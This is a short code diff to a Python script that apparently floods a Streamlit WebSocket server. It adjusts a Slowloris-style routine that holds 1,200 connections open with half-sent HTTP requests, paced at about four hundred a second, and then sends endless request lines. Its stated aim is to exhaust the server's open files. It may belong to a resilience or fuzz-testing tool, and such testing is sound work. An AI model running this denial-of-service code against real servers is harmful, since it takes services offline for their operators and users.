@@ -21,7 +21,7 @@ HANDSHAKE = (
     "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: streamlit\r\n"
     "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
 )
-HALF_OPEN, UNREAD = 2_000, 60
+HALF_OPEN, UNREAD = 1_200, 60
 """Connections: more than a server has open files where nobody has raised their number; streams that nobody reads."""
 
 
@@ -69,10 +69,11 @@ def odd_frames(address: str) -> None:
 def half_requests(address: str) -> None:
     """Thousands of connections with half a request; then requests and addresses without end."""
     with ExitStack() as held:
-        for _ in range(HALF_OPEN):
+        for number in range(HALF_OPEN):
             with suppress(OSError):
                 one = held.enter_context(_connected(address))
                 one.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-More: ")
+            time.sleep(0.05 if number % 20 == 0 else 0)  # four hundred a second
         time.sleep(FLOOD_SECONDS / 4)
     for line in (b"GET /?text=", b"GET / HTTP/1.1\r\nX-Long: "):
         with suppress(OSError), _connected(address) as one:
